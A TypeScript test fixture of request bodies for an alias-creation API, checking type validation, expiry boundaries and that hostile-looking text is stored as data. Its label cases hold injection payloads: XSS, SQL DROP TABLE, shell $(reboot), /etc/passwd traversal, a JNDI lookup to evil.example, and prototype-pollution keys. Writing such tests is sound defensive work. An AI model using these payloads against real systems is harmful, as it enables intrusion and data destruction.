import { NOW_SECONDS, postJson, row, utf8 } from '../support/row.ts'

const DAY = 86_400
const TEXTS = ['label', 'note', 'source', 'category']

const taken = (name: string, body: string, asks = 'POST /v1/aliases: free text') =>
  row(name, postJson(utf8(body)), 200, asks, { creates: 1 })
const refused = (name: string, body: string, asks: string) =>
  row(name, postJson(utf8(body)), 400, asks)
const label = (name: string, text: string) => taken(name, JSON.stringify({ label: text }))

const EXPIRY = 'POST /v1/aliases, expires_at'
const expiry = (name: string, value: string) =>
  refused(`expires_at: ${name}`, `{"expires_at":${value}}`, EXPIRY)

/** The fields of a creation, with invalid values. */
export const fields = [
  ...TEXTS.flatMap((field) =>
    ['1', 'true', '{}', '[]', '["x"]', '{"toString":"x"}', 'null'].map((value) =>
      refused(`${field}: ${value}`, `{"${field}":${value}}`, 'POST /v1/aliases: string'),
    ),
  ),
  ...['1', '0', '"true"', '""', '[]', '[true]', '{}', 'null', '1e0'].map((value) =>
    refused(`single_use: ${value}`, `{"single_use":${value}}`, 'POST /v1/aliases, single_use'),
  ),
  expiry('text', `"${NOW_SECONDS + 600}"`),
  expiry('an ISO time', '"2026-03-02T00:00:00Z"'),
  expiry('an empty text', '""'),
  expiry('null', 'null'),
  expiry('true', 'true'),
  expiry('a list', `[${NOW_SECONDS + 600}]`),
  expiry('an object', `{"valueOf":${NOW_SECONDS + 600}}`),
  expiry('a fraction', `${NOW_SECONDS + 600}.5`),
  expiry('milliseconds', `${(NOW_SECONDS + 600) * 1_000}`),
  expiry('nanoseconds', `${NOW_SECONDS + 600}000000000`),
  expiry('0', '0'),
  expiry('minus 0', '-0'),
  expiry('minus 1', '-1'),
  expiry('now', `${NOW_SECONDS}`),
  expiry('a second short of 5 minutes', `${NOW_SECONDS + 299}`),
  expiry('a second past 366 days', `${NOW_SECONDS + 366 * DAY + 1}`),
  expiry('2^31', '2147483648'),
  expiry('2^53', '9007199254740992'),
  expiry('2^53 + 1', '9007199254740993'),
  expiry('2^63', '9223372036854775808'),
  expiry('the last instant of a Date', '8640000000000000'),
  expiry('a second past it', '8640000000000001'),
  expiry('1e308', '1e308'),
  expiry('1e400', '1e400'),
  expiry('-1e400', '-1e400'),
  expiry('1e-400', '1e-400'),
  taken('expires_at: 5 minutes', `{"expires_at":${NOW_SECONDS + 300}}`, EXPIRY),
  taken('expires_at: 366 days', `{"expires_at":${NOW_SECONDS + 366 * DAY}}`, EXPIRY),
  // JavaScript can represent no number in between.
  taken(
    'expires_at: a ten-millionth more',
    `{"expires_at":${NOW_SECONDS + 600}.0000001}`,
    'RFC 8259, 6',
  ),
  taken('expires_at: with .0', `{"expires_at":${NOW_SECONDS + 600}.0}`, 'RFC 8259, 6'),
  taken(
    'expires_at: with an exponent',
    `{"expires_at":${(NOW_SECONDS + 600) / 100}e2}`,
    'RFC 8259, 6',
  ),

  // Text is data, whatever it looks like.
  label('an empty text', ''),
  label('a script', '<script>alert(1)</script>'),
  label('an image that runs code', "<img src=x onerror=fetch('/_sandbox/reset',{method:'POST'})>"),
  label('an end of a script', '</script><svg/onload=alert(1)>'),
  label('a log line', 'a\r\n[fake] line\u001b[2J'),
  label('a header', 'x\r\nSet-Cookie: a=b\r\n\r\n<html>'),
  label('a NUL', 'a\0b'),
  label(
    'all control characters',
    Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join(''),
  ),
  label('DEL and C1', '\u007f\u0080\u009b2J'),
  label('half a surrogate', '\ud83d'),
  label('surrogates in the wrong order', '\udca9\ud83d'),
  label('a family', '👨‍👩‍👧‍👦'),
  label('right to left', '\u202egpj.exe'),
  label('no width', '\u200b\ufeff\u2060'),
  label('line separators', '\u2028\u2029'),
  label('a private character and a non-character', '\ue000\uffff\u{10ffff}'),
  label('marks on marks', `Z${'\u0301'.repeat(500)}`),
  label('SQL', "'; DROP TABLE aliases; --"),
  label('a template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'),
  label('a shell', '$(reboot) `reboot` ; reboot | reboot'),
  label('a path', '../../../../etc/passwd'),
  label('a lookup', '${jndi:ldap://evil.example/a}'),
  label('a format', '%s%s%n%x'),
  label('a formula', '=1+1'),
  label('a text that is JSON', '{"alias":{"id":"x"}}'),
  label('__proto__ as text', '__proto__'),
  label('a URL', 'http://evil.example/'),

  // Names that are not fields.
  taken(
    '__proto__ as a field',
    '{"__proto__":{"label":"x","polluted":1}}',
    'choice unknown_fields',
  ),
  taken(
    '__proto__ as an escape',
    '{"\\u005f_proto__":{"single_use":"x"}}',
    'choice unknown_fields',
  ),
  taken(
    'constructor as a field',
    '{"constructor":{"prototype":{"polluted":1}}}',
    'choice unknown_fields',
  ),
  taken('toString as a field', '{"toString":null,"valueOf":1,"toJSON":2}', 'choice unknown_fields'),
  taken(
    'hasOwnProperty as a field',
    '{"hasOwnProperty":1,"length":9,"then":1}',
    'choice unknown_fields',
  ),
  taken('the empty name', '{"":1}', 'choice unknown_fields'),
  taken('a field in capitals', '{"LABEL":1}', 'choice unknown_fields'),
  taken(
    'fields of the answer',
    '{"id":"x","address":"x@y","status":"suspended","created_at":1,"forward_count":9}',
    'choice unknown_fields',
  ),
  taken('a field of 50,000 characters', `{"${'k'.repeat(50_000)}":1}`, 'choice unknown_fields'),
  taken('a field twice, the last is good', '{"single_use":"x","single_use":true}', 'RFC 8259, 4'),
  refused('a field twice, the last is bad', '{"single_use":true,"single_use":"x"}', 'RFC 8259, 4'),
]
